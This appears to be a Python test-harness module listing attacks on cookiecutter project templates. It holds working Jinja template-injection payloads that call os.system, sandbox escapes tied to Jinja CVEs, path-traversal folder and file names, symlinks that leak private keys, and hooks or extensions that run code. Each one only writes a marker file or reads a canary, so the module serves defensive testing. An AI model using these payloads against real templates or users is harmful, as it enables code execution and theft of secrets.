"""What could values, names, Jinja and the template's own files do, without or before any hook?"""

from __future__ import annotations

from attacks.attack import SLUG, Attack
from attacks.corpus.reading import took_the_secret
from attacks.corpus.writing import changed
from attacks.scene import Scene

NUMBER = "55433"
SUM = "{{ 7919 * 7 }}"
PLAIN = "plain cookiecutter 2.7.1"
HIT = "{{ cycler.__init__.__globals__.os.system('echo hit > <<person>>/hit') }}"
MODULE = "jinja2.utils"
READ = "cycler.__init__.__globals__"


def computed(scene: Scene) -> bool:
    return NUMBER in scene.loot


def left_the_sandbox_of_jinja(scene: Scene) -> bool:
    """Look for the secret; without hooks Jinja's own sandbox must hold too, and then no name of a module comes out."""
    return scene.stage.environment_secret in scene.loot or (scene.inert and MODULE in scene.loot)


def formatted(expression: str) -> dict[str, str]:
    module = expression.replace("@", "'{0.__init__.__globals__[__name__]}'")
    secret = expression.replace("@", "'{0.__init__.__globals__[os].environ[CANARY]}'")
    return {f"{SLUG}/name": f"{{{{ {module} }}}}", f"{SLUG}/secret": f"{{{{ {secret} }}}}"}


def leave_a_template_outside(scene: Scene) -> None:
    outside = scene.person / "outside"
    (outside / SLUG).mkdir(parents=True)
    (outside / "cookiecutter.json").write_text('{"slug": "made"}')
    (outside / SLUG / "README.md").write_text(scene.secret)
    (outside / "hooks").mkdir()
    (outside / "hooks" / "post_gen_project.py").write_text(f"open({str(scene.person / 'hit')!r}, 'w').close()\n")


ATTACKS = (
    Attack(
        "value-is-code",
        "have an answer evaluated as Jinja",
        PLAIN,
        computed,
        configuration={"title": "x"},
        files={f"{SLUG}/title": "{{cookiecutter.title}}"},
        answers={"title": SUM},
    ),
    Attack(
        "raw-value-is-code",
        "have an answer evaluated that a caller had wrapped in `raw`",
        f"{PLAIN}: folder names are rendered twice",
        computed,
        files={f"{SLUG}/folder/file": ""},
        answers={"slug": "{% raw %}" + SUM + "{% endraw %}"},
    ),
    Attack(
        "value-with-other-marks",
        "have an answer evaluated by other marks of Jinja",
        f"{PLAIN}, `_jinja2_env_vars`",
        computed,
        configuration={"title": "x", "_jinja2_env_vars": {"variable_start_string": "[[", "variable_end_string": "]]"}},
        files={
            "[[cookiecutter.slug]]/title": "[[cookiecutter.title]]",
        },
        answers={"title": "[[ 7919 * 7 ]]"},
    ),
    Attack(
        "value-in-a-hook",
        "have an answer run as code, where a hook is rendered with it",
        PLAIN,
        changed,
        configuration={"title": "x"},
        files={"hooks/pre_gen_project.py": 'title = "{{cookiecutter.title}}"\n'},
        answers={"title": '"; open("<<person>>/hit", "w"); "'},
    ),
    Attack(
        "folder-is-code",
        "have the output folder's name evaluated",
        PLAIN,
        lambda scene: NUMBER in "".join(str(path) for path in scene.folder.rglob("*")),
        files={f"{SLUG}/folder/file": ""},
        output=f"<<projects>>/{SUM}",
    ),
    Attack(
        "default-is-code",
        "run a command by a default",
        PLAIN,
        changed,
        configuration={"title": HIT},
    ),
    Attack(
        "private-default-is-code",
        "run a command by a private variable, which nobody is asked",
        PLAIN,
        changed,
        configuration={"__title": HIT},
    ),
    Attack(
        "file-is-code",
        "run a command by a file's text, with hooks switched off",
        PLAIN,
        changed,
        files={f"{SLUG}/text": HIT},
    ),
    Attack(
        "name-is-code",
        "run a command by a file's name",
        PLAIN,
        changed,
        files={f"{SLUG}/{{{{ cycler.__init__.__globals__.os.mkdir(cookiecutter.place) }}}}.txt": ""},
        configuration={"place": "<<person>>/hit"},
    ),
    Attack(
        "extension-is-code",
        "run a module of its own as a Jinja extension",
        f"{PLAIN}, `_extensions`",
        changed,
        configuration={"_extensions": ["local_extensions.Harmless"]},
        files={
            "local_extensions.py": "from jinja2.ext import Extension\nclass Harmless(Extension):\n    pass\n"
            "open('<<person>>/hit', 'w').close()\n"
        },
    ),
    Attack(
        "asks-before",
        "run a program before anything is asked",
        f"{PLAIN}, `pre_prompt`",
        changed,
        files={"hooks/pre_prompt.py": "open('<<person>>/hit', 'w').close()\n"},
    ),
    Attack(
        "slug-leads-out",
        "make the project elsewhere, by `../` in its folder's name",
        PLAIN,
        changed,
        answers={"slug": "../escaped"},
    ),
    Attack(
        "slug-is-a-path",
        "make the project elsewhere, by an absolute folder name",
        PLAIN,
        changed,
        answers={"slug": "<<person>>/escaped"},
    ),
    Attack(
        "file-name-leads-out",
        "write elsewhere, by `../` in a file's name",
        PLAIN,
        changed,
        configuration={"file": "../../person/escaped"},
        files={f"{SLUG}/{{{{cookiecutter.file}}}}": "written"},
    ),
    Attack(
        "links-to-a-key",
        "have a private key rendered into the project, by a link",
        "CVE-2026-23968 (copier)",
        took_the_secret,
        links={f"{SLUG}/key": "<<key>>"},
    ),
    Attack(
        "links-to-a-folder",
        "have a person's folder rendered into the project, by a link",
        "CVE-2026-23968 (copier)",
        took_the_secret,
        configuration={"_copy_without_render": ["folder"]},
        links={f"{SLUG}/folder": "<<person>>/private"},
    ),
    Attack(
        "links-to-hooks",
        "have hooks run that are not in the template, by a link",
        f"{PLAIN}",
        changed,
        links={"hooks": "<<person>>/outside/hooks"},
        prepare=leave_a_template_outside,
    ),
    Attack(
        "nests-outside",
        "have another folder used as a template, by a nested path",
        f"{PLAIN}, `templates`",
        took_the_secret,
        configuration={"templates": {"x": {"path": "../person/outside", "title": "x", "description": "x"}}},
        prepare=leave_a_template_outside,
    ),
    Attack(
        "keeps-answers",
        "have answers kept in the person's home folder",
        f"{PLAIN}, replay files",
        lambda scene: any((scene.stage.root / "own").rglob("*replay*/*.json")),
    ),
    Attack(
        "format",
        "leave Jinja's sandbox by `format`",
        "CVE-2016-10745",
        left_the_sandbox_of_jinja,
        files=formatted("@.format(cycler)"),
    ),
    Attack(
        "format-map",
        "leave Jinja's sandbox by `format_map`",
        "CVE-2019-10906",
        left_the_sandbox_of_jinja,
        files=formatted("@.replace('0', 'x').format_map({'x': cycler})"),
    ),
    Attack(
        "format-by-reference",
        "leave Jinja's sandbox by a reference to `format`",
        "CVE-2024-56326",
        left_the_sandbox_of_jinja,
        files=formatted("cycler(@.format).next()(cycler)"),
    ),
    Attack(
        "format-by-attribute",
        "leave Jinja's sandbox by the filter `attr`",
        "CVE-2025-27516",
        left_the_sandbox_of_jinja,
        files=formatted("(@ | attr('format'))(cycler)"),
    ),
    Attack(
        "compiled-name",
        "have a file's name compiled as code",
        "CVE-2024-56201",
        computed,
        files={f"{SLUG}/{{7919 * 7}}": "{% if false %}{{ 1 | nope }}{% endif %}"},
        fixed=True,
    ),
)
